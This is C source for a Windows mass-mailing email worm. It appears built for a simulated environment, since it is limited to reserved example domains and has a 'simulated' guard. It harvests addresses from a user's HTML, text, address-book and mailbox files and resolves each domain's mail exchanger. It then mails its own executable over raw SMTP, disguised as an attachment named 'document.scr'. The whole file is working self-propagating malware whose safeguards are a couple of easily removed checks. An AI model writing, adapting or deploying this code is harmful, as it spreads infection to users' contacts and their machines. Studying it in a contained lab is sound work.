/* Searches the user's files for addresses and mails itself to them, through each domain's own mail
 * server.
 *
 * Only addresses under reserved names are ever used: .example, .test, example.com, .net and .org
 * (RFC 2606). */
#include <winsock2.h>

#include "simulated.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <windns.h>

#define MAX_RECIPIENTS 8

static char recipients[MAX_RECIPIENTS][96];
static unsigned recipient_count;

static BOOL address_character(char c)
{
	return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') ||
	       c == '.' || c == '-' || c == '_';
}

static BOOL ends_with(const char *text, const char *end)
{
	size_t length = strlen(text), tail = strlen(end);
	return length > tail && strcmp(text + length - tail, end) == 0;
}

static BOOL is_reserved(const char *address)
{
	static const char *const names[] = { ".example", ".test", "@example.com", "@example.net",
					     "@example.org" };
	for (unsigned i = 0; i < sizeof names / sizeof *names; i++) {
		if (ends_with(address, names[i]))
			return TRUE;
	}
	return FALSE;
}

static void keep(const char *start, size_t length)
{
	char address[96];
	if (length >= sizeof address || recipient_count == MAX_RECIPIENTS)
		return;
	memcpy(address, start, length);
	address[length] = '\0';
	if (!is_reserved(address))
		return;
	for (unsigned i = 0; i < recipient_count; i++) {
		if (strcmp(recipients[i], address) == 0)
			return;
	}
	strcpy(recipients[recipient_count++], address);
}

static void harvest(const char *path)
{
	static char text[16384];
	DWORD length = 0;
	HANDLE file =
		CreateFileA(path, GENERIC_READ, FILE_SHARE_READ, NULL, OPEN_EXISTING, 0, NULL);
	if (file == INVALID_HANDLE_VALUE)
		return;
	ReadFile(file, text, sizeof text - 1, &length, NULL);
	CloseHandle(file);
	for (DWORD i = 1; i + 1 < length; i++) {
		DWORD start = i, end = i + 1;
		if (text[i] != '@')
			continue;
		while (start > 0 && address_character(text[start - 1]))
			start--;
		while (end < length && address_character(text[end]))
			end++;
		if (start < i && end > i + 1)
			keep(text + start, end - start);
	}
}

static void search(const char *folder, unsigned depth)
{
	char path[MAX_PATH];
	WIN32_FIND_DATAA found;
	if (depth == 0 || strlen(folder) > 180)
		return;
	sprintf(path, "%s\\*.*", folder);
	HANDLE walk = FindFirstFileA(path, &found);
	if (walk == INVALID_HANDLE_VALUE)
		return;
	do {
		if (found.cFileName[0] == '.' || strlen(found.cFileName) > 60)
			continue;
		sprintf(path, "%s\\%s", folder, found.cFileName);
		if (found.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY)
			search(path, depth - 1);
		else if (ends_with(path, ".htm") || ends_with(path, ".html") ||
			 ends_with(path, ".txt") || ends_with(path, ".wab") ||
			 ends_with(path, ".dbx") || ends_with(path, ".eml"))
			harvest(path);
	} while (FindNextFileA(walk, &found));
	FindClose(walk);
}

/* The mail exchanger of a domain, or the guess that mailers make when DNS does not tell. */
static unsigned long mail_server(const char *domain)
{
	char name[300];
	DNS_RECORDA *records = NULL;
	sprintf(name, "mail.%s", domain);
	if (DnsQuery_A(domain, DNS_TYPE_MX, DNS_QUERY_STANDARD, NULL,
		       (PDNS_RECORD *)(void *)&records, NULL) == 0 &&
	    records != NULL && records->wType == DNS_TYPE_MX)
		snprintf(name, sizeof name, "%s", records->Data.MX.pNameExchange);
	struct hostent *host = gethostbyname(name);
	return host == NULL ? INADDR_NONE : *(unsigned long *)(void *)host->h_addr_list[0];
}

static BOOL say(SOCKET server, const char *text)
{
	char answer[512];
	send(server, text, (int)strlen(text), 0);
	int length = recv(server, answer, sizeof answer, 0);
	return length > 0 && (answer[0] == '2' || answer[0] == '3');
}

static void send_self(SOCKET server)
{
	static const char digits[] =
		"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
	char path[MAX_PATH], line[80];
	unsigned char group[57];
	GetModuleFileNameA(NULL, path, sizeof path);
	FILE *self = fopen(path, "rb");
	if (self == NULL)
		return;
	size_t length;
	while ((length = fread(group, 1, sizeof group, self)) > 0) {
		size_t used = 0;
		for (size_t i = 0; i < length; i += 3) {
			unsigned long bits = (unsigned long)group[i] << 16;
			bits |= i + 1 < length ? (unsigned long)group[i + 1] << 8 : 0;
			bits |= i + 2 < length ? group[i + 2] : 0;
			line[used++] = digits[bits >> 18];
			line[used++] = digits[bits >> 12 & 63];
			line[used++] = i + 1 < length ? digits[bits >> 6 & 63] : '=';
			line[used++] = i + 2 < length ? digits[bits & 63] : '=';
		}
		line[used++] = '\r';
		line[used++] = '\n';
		send(server, line, (int)used, 0);
	}
	fclose(self);
}

static void mail_to(const char *recipient)
{
	char line[256], answer[512];
	const char *domain = strchr(recipient, '@') + 1;
	struct sockaddr_in target = { .sin_family = AF_INET, .sin_port = htons(25) };
	target.sin_addr.s_addr = mail_server(domain);
	if (target.sin_addr.s_addr == INADDR_NONE)
		return;
	SOCKET server = socket(AF_INET, SOCK_STREAM, IPPROTO_TCP);
	if (connect(server, (struct sockaddr *)&target, sizeof target) == 0 &&
	    recv(server, answer, sizeof answer, 0) > 0) {
		sprintf(line, "RCPT TO:<%s>\r\n", recipient);
		if (say(server, "HELO mailer.example\r\n") &&
		    say(server, "MAIL FROM:<friend@mailer.example>\r\n") && say(server, line) &&
		    say(server, "DATA\r\n")) {
			static const char head[] =
				"From: friend@mailer.example\r\nSubject: the document\r\n"
				"MIME-Version: 1.0\r\n"
				"Content-Type: application/octet-stream; name=document.scr\r\n"
				"Content-Transfer-Encoding: base64\r\n\r\n";
			send(server, head, sizeof head - 1, 0);
			send_self(server);
			say(server, "\r\n.\r\n");
		}
		say(server, "QUIT\r\n");
	}
	closesocket(server);
}

int main(void)
{
	WSADATA data;
	leave_unless_simulated();
	WSAStartup(MAKEWORD(2, 2), &data);
	search("C:\\Documents and Settings", 6);
	keep("postmaster@corp.example", 23);
	keep("info@shop.test", 14);
	for (unsigned i = 0; i < recipient_count; i++)
		mail_to(recipients[i]);
	WSACleanup();
	return 0;
}
